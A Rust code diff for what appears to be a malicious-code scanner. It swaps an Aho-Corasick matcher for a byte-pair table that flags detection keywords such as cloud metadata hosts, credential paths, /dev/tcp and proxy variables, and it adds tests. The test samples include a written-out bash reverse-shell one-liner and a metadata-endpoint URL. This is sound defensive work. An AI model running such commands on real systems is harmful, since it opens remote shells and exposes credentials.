@@ -1,14 +1,13 @@
 //! Which needle lists occur in a lower-cased string literal, as bits: one
-//! pass of one automaton (built once per process) per literal, instead of a
-//! `contains` per needle in each family that reads the literals (a file has
-//! hundreds of literals, and the lists below hold some sixty needles).
-//! Overlapping matches, so a needle inside another list's match still counts:
-//! a bit is set exactly when some needle of its list occurs.
+//! pass per literal over a table of the needles' first two bytes (made once
+//! per process), instead of a `contains` per needle in each family that
+//! reads the literals (a file has hundreds of literals, and the lists below
+//! hold some sixty needles). Every position is tried, so a needle inside
+//! another list's match still counts: a bit is set exactly when some needle
+//! of its list occurs.
 
 use std::rc::Rc;
 use std::sync::OnceLock;
-
-use aho_corasick::{AhoCorasick, AhoCorasickKind};
 
 use super::names::{CREDENTIAL_PATHS, METADATA_HOSTS, MINER_MARKERS};
 use super::{Analyzer, Node};
@@ -53,6 +52,8 @@ pub(super) const FOREIGN_DB: u16 = 1 << 7;
 pub(super) const PASSWORD_FORM: u16 = 1 << 8;
 /// [`PROXY_VARIABLES`].
 pub(super) const PROXY_VAR: u16 = 1 << 9;
+/// [`super::covert::DROP_SERVICES`].
+pub(super) const DROP_SERVICE: u16 = 1 << 10;
 
 /// A password field of an HTML form.
 pub(super) const PASSWORD_FIELDS: &[&str] =
@@ -63,7 +64,7 @@ pub(super) const PROXY_VARIABLES: &[&str] = &["http_proxy", "https_proxy", "all_
 
 /// Every needle, with its list's bit.
 fn needle_table() -> Vec<(&'static str, u16)> {
-    let lists: [(&[&'static str], u16); 10] = [
+    let lists: [(&[&'static str], u16); 11] = [
         (METADATA_HOSTS, METADATA),
         (CREDENTIAL_PATHS, CREDENTIAL),
         (&["/dev/tcp/", "/dev/udp/"], DEV_TCP),
@@ -74,6 +75,7 @@ fn needle_table() -> Vec<(&'static str, u16)> {
         (super::database::FOREIGN_DATABASES, FOREIGN_DB),
         (PASSWORD_FIELDS, PASSWORD_FORM),
         (PROXY_VARIABLES, PROXY_VAR),
+        (super::covert::DROP_SERVICES, DROP_SERVICE),
     ];
     lists
         .iter()
@@ -81,30 +83,69 @@ fn needle_table() -> Vec<(&'static str, u16)> {
         .collect()
 }
 
+/// Needles that fit the pair table: one bit of a `u128` each.
+const PAIRED: usize = 128;
+
+/// The needles, and for each byte value the needles that start with it
+/// (`first`) or have it second (`second`), as bit sets: a position can start
+/// a needle only if the sets of its two bytes meet. An Aho-Corasick automaton
+/// gave the same answers, but building it cost every fresh process about
+/// 0.6 M instructions, a quarter of a millisecond's work, for a scan no faster
+/// on literals this short.
+struct Pairs {
+    needles: Vec<(&'static str, u16)>,
+    first: [u128; 256],
+    second: [u128; 256],
+    /// Needles the table cannot hold (shorter than two bytes, or past
+    /// [`PAIRED`]): searched one by one.
+    rest: Vec<(&'static str, u16)>,
+}
+
+fn pairs() -> &'static Pairs {
+    static PAIRS: OnceLock<Pairs> = OnceLock::new();
+    PAIRS.get_or_init(|| {
+        let mut p = Pairs {
+            needles: Vec::new(),
+            first: [0; 256],
+            second: [0; 256],
+            rest: Vec::new(),
+        };
+        for (n, bit) in needle_table() {
+            match n.as_bytes() {
+                [a, b, ..] if p.needles.len() < PAIRED => {
+                    let one = 1u128 << p.needles.len();
+                    p.first[usize::from(*a)] |= one;
+                    p.second[usize::from(*b)] |= one;
+                    p.needles.push((n, bit));
+                }
+                _ => p.rest.push((n, bit)),
+            }
+        }
+        p
+    })
+}
+
 /// Which needle lists occur in `lower` (already lower-cased), as bits.
 pub(super) fn needles_in(lower: &str) -> u16 {
-    static SCAN: OnceLock<Option<(AhoCorasick, Vec<u16>)>> = OnceLock::new();
-    let scan = SCAN.get_or_init(|| {
-        let table = needle_table();
-        // A contiguous NFA: a DFA scans no faster on strings this short and
-        // takes far longer to build, which every fresh process pays.
-        let ac = AhoCorasick::builder()
-            .kind(Some(AhoCorasickKind::ContiguousNFA))
-            .build(table.iter().map(|(n, _)| n))
-            .ok()?;
-        Some((ac, table.iter().map(|(_, bit)| *bit).collect()))
-    });
-    match scan {
-        Some((ac, bits)) => ac.find_overlapping_iter(lower).fold(0, |acc, m| {
-            acc | bits.get(m.pattern().as_usize()).copied().unwrap_or(0)
-        }),
-        // The automaton cannot fail to build from these few short needles;
-        // should it, the plain search gives the same answer.
-        None => needle_table()
-            .iter()
-            .filter(|(n, _)| lower.contains(n))
-            .fold(0, |acc, (_, bit)| acc | bit),
+    let p = pairs();
+    let text = lower.as_bytes();
+    let mut found = 0;
+    for (i, pair) in text.windows(2).enumerate() {
+        let mut maybe = p.first[usize::from(pair[0])] & p.second[usize::from(pair[1])];
+        while maybe != 0 {
+            let j = maybe.trailing_zeros() as usize;
+            maybe &= maybe - 1;
+            if let Some((n, bit)) = p.needles.get(j) {
+                if text[i..].starts_with(n.as_bytes()) {
+                    found |= bit;
+                }
+            }
+        }
     }
+    p.rest
+        .iter()
+        .filter(|(n, _)| lower.contains(n))
+        .fold(found, |acc, (_, bit)| acc | bit)
 }
 
 #[cfg(test)]
@@ -122,6 +163,11 @@ mod tests {
             "169.254.169.254/latest/meta-data",
             "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
             "nothing to see",
+            "",
+            "i",
+            "id_rsaid_rsa",
+            "x/etc/shadow",
+            "ld_preloa",
         ];
         for s in samples {
             let plain = needle_table()
@@ -130,5 +176,17 @@ mod tests {
                 .fold(0, |acc, (_, bit)| acc | bit);
             assert_eq!(needles_in(s), plain, "{s}");
         }
+    }
+
+    /// Every needle found alone, at the end of a text and inside another:
+    /// the pair table misses none.
+    #[test]
+    fn every_needle_found() {
+        for (n, bit) in needle_table() {
+            for s in [n.to_string(), format!("ab{n}"), format!("a{n}b")] {
+                assert_ne!(needles_in(&s) & bit, 0, "{s}");
+            }
+        }
+        assert!(pairs().rest.is_empty(), "all needles fit the table");
     }
 }
